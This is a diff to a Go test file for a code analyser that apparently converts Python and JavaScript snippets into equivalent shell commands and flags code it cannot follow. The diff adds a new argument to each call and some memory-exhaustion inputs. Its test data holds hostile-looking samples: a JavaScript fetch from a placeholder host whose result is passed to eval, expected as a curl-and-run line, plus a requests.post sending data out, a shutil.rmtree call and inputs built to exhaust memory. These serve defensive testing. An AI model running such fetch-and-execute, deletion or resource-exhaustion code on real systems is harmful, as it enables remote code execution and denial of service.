@@ -45,7 +45,7 @@ func TestPython(t *testing.T) {
 		{"import os\n(lambda: os.system('id'))()", "id"},
 		{"import os\n[os.system(c) for c in ('id', 'who')]", "id\nwho"},
 	} {
-		e := Of("python", c.code)
+		e := Of("python", c.code, Given{})
 		if got := strings.Join(e.Lines, "\n"); got != c.want || !e.Whole {
 			t.Errorf("%s\ndoes\n%s\nand should\n%s\n(whole: %t)", c.code, got, c.want, e.Whole)
 		}
@@ -74,7 +74,7 @@ func TestJavaScript(t *testing.T) {
 		{`fetch("http://e.example/x").then(r => r.text()).then(t => eval(t))`, "curl -s http://e.example/x\nnode -e \"$(curl -s http://e.example/x)\""},
 		{`console.log(1 + 2)`, ""},
 	} {
-		e := Of("js", c.code)
+		e := Of("js", c.code, Given{})
 		if got := strings.Join(e.Lines, "\n"); got != c.want || !e.Whole {
 			t.Errorf("%s\ndoes\n%s\nand should\n%s\n(whole: %t)", c.code, got, c.want, e.Whole)
 		}
@@ -91,11 +91,11 @@ func TestDark(t *testing.T) {
 		"import json, sys\nprint(json.load(sys.stdin)['a'])": false,
 		"class A: pass\ngetattr(A(), 'x' + 'y')()":           false,
 	} {
-		if e := Of("python", code); e.Dark != want {
+		if e := Of("python", code, Given{}); e.Dark != want {
 			t.Errorf("%s: %t %q", code, e.Dark, e.Lines)
 		}
 	}
-	if !Of("python", strings.Repeat("x = 1\n", maxCode)).Dark {
+	if !Of("python", strings.Repeat("x = 1\n", maxCode), Given{}).Dark {
 		t.Error("code that is too large is understood")
 	}
 }
@@ -124,6 +124,11 @@ func TestHostileSizes(t *testing.T) {
 		{"python", "a = []\n" + strings.Repeat("a = ["+strings.Repeat("a,", 100)+"]\n", 8) + "import requests\nrequests.post('http://e', data=a)"},
 		{"python", "x = a\n" + strings.Repeat("for i in [1,2,3,4,5,6,7,8]:", 4) + " x = x." + strings.Repeat("a", 4000)},
 		{"python", strings.Repeat("from a import *\n", 2100) + "[" + strings.Repeat("b,", 14000) + "]"},
+		{"python", "x = 'a' * 60\nx = x * 17\n" + strings.Repeat("list(x)\n", 7000)},
+		{"python", "x = range(-9000000000000000000, 9000000000000000000)\ny = range(9000000000000000000, -9000000000000000000, -1)\nz = 'a'[-9999999999:99999999999:99999999]"},
+		{"python", "import threading, shutil\na = {}\nthreading.Thread(target=shutil.rmtree, kwargs={**a, **{'b': 1}, 'c': 2})\nmap(int)\nzip()\nreversed()\n''.translate({})\n'%(a)' % 1\n'{' .format()\n'%' % ()\nsum()\nint()\nlen()"},
+		{"python", "t = 'b' * 60\nt = t * 60\nx = 'a' * 60\nx = x * 60\n" + strings.Repeat("x = x.translate({97: t, 98: t})\n", 60)},
+		{"python", "import re\nx = 'a' * 60\n" + strings.Repeat("x = re.sub('(.*)', '\\1\\1\\1', x)\n", 60)},
 		{"js", "a = [1, 2];" + strings.Repeat("a = [...a, ...a];", 60)},
 		{"js", strings.Repeat("(", 30000)},
 		{"js", strings.Repeat("[", 20000) + strings.Repeat("]", 20000)},
@@ -135,7 +140,7 @@ func TestHostileSizes(t *testing.T) {
 	} {
 		var before, after runtime.MemStats
 		runtime.ReadMemStats(&before)
-		e := Of(c.language, c.code)
+		e := Of(c.language, c.code, Given{})
 		if runtime.ReadMemStats(&after); after.TotalAlloc-before.TotalAlloc > 512<<20 {
 			t.Errorf("%.60q takes %d MB", c.code, (after.TotalAlloc-before.TotalAlloc)>>20)
 		}
@@ -156,7 +161,7 @@ func FuzzOf(f *testing.F) {
 	}
 	f.Fuzz(func(t *testing.T, code string, python bool) {
 		language := map[bool]string{true: "python", false: "js"}[python]
-		e := Of(language, code)
+		e := Of(language, code, Given{})
 		if len(e.Lines) > maxLines || len(e.Reads) > maxLines {
 			t.Errorf("%d lines, %d files", len(e.Lines), len(e.Reads))
 		}
